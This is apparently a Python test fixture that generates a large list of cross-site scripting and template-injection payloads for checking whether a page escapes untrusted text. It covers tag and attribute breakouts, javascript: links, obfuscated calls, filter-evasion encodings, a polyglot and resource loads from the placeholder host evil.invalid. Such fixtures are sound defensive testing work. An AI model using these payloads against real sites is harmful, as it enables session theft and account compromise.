"""Texts that would run in a browser if some page did not escape them: contexts × ways of calling.

Every one calls `pwned`, or leads to the host `evil.invalid`, or to an element `x-pwned`, so that a page that lets it
through shows it.
"""

from __future__ import annotations

from itertools import product

CALL = "pwned(1)"
ENTITIES = "".join(f"&#{ord(letter)};" for letter in CALL)
# The same call, written as different filters would miss it.
CALLS = (CALL, "window['pwned'](1)", "top.pwned`1`", "\\u0070wned(1)", "eval('pwn'+'ed(1)')", ENTITIES)
# Where the call stands: elements, handlers, addresses. {} is the call.
ELEMENTS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<body onload={}>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<iframe src="javascript:parent.{}"></iframe>',
    "<video><source onerror={}></video>",
    '<object data="javascript:{}"></object>',
    "<style onload={}></style>",
    "<marquee onstart={}></marquee>",
)
# Ways out of where a text may stand: attributes, text areas, titles, comments, scripts, styles.
BREAKOUTS = (
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" autofocus onfocus={} x="',
    "' autofocus onfocus={} x='",
    "` onmouseover={} x=`",
    "</textarea><img src=x onerror={}>",
    "</title><img src=x onerror={}>",
    "</script><script>{}</script>",
    "</style><img src=x onerror={}>",
    "--><img src=x onerror={}>",
    "]]><img src=x onerror={}>",
    "</option></select><img src=x onerror={}>",
    "</noscript><img src=x onerror={}>",
)
LINKS = (
    "[press](javascript:{})",
    "[press](JaVaScRiPt:{})",
    "[press](java\tscript:{})",
    "[press](&#106;avascript:{})",
    "[press](data:text/html,<script>{}</script>)",
    "[press](vbscript:{})",
    "<javascript:{}>",
    "[a]: javascript:{}\n\n[a]",
    '![x](x "onerror={}")',
    '[x](https://evil.invalid/" onmouseover={} ")',
    '<a href="javascript:{}">press</a>',
    "javascript:{}",
    "javascript:{}//https://example.org",
)
OTHERS = (
    "{{7*7}}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ ''|attr('x')|safe }}<x-pwned>",
    "${7*7}<x-pwned>",
    "#{7*7}<x-pwned>",
    "![x](https://evil.invalid/x.png)",
    "<img src=https://evil.invalid/x.png>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>@import 'https://evil.invalid/x.css'</style>",
    "<style>body{background:url(https://evil.invalid/x)}</style>",
    '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/><button>go</button></form>",
    "<script src=https://evil.invalid/x.js></script>",
    "<embed src=https://evil.invalid/x.svg>",
    "<x-pwned>",
    "<X-PWNED/>",
    "<\x00script>pwned(1)</script>",
    "<scr\x00ipt>pwned(1)</scr\x00ipt>",
    "\x00<img src=x onerror=pwned(1)>",
    "\ufeff<script>pwned(1)</script>",
    "\u202e<script>pwned(1)</script>",
    "＜script＞pwned(1)＜/script＞",
    "\u2028<img src=x onerror=pwned(1)>",
    "<img\u00a0src=x onerror=pwned(1)>",
    "<img/src=x/onerror=pwned(1)>",
    "<img src=x\nonerror=pwned(1)>",
    "<<script>pwned(1)//<</script>",
    "<script>pwned(1)",
    "<scr<script>ipt>pwned(1)</scr</script>ipt>",
    "%3Cscript%3Epwned(1)%3C/script%3E",
    "&lt;img src=x onerror=pwned(1)&gt;",
    "\\x3cimg src=x onerror=pwned(1)\\x3e",
    "+ADw-script+AD4-pwned(1)+ADw-/script+AD4-",
    "<!--[if gte IE 4]><script>pwned(1)</script><![endif]-->",
    '<?xml version="1.0"?><x-pwned/>',
    "<![CDATA[<img src=x onerror=pwned(1)>]]>",
    "```\n</code></pre><img src=x onerror=pwned(1)>\n```",
    "# <img src=x onerror=pwned(1)>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=pwned(1)//>\\x3e",
    "'\"><svg/onload=pwned(1)>{{7*7}}[x](javascript:pwned(1))",
)


def payloads() -> list[str]:
    """All of them, in a fixed order: at least 150, all different."""
    forms = (*ELEMENTS, *BREAKOUTS, *LINKS)
    made = [form.replace("{}", call) for form, call in product(forms, CALLS)]
    return list(dict.fromkeys([*made, *OTHERS]))
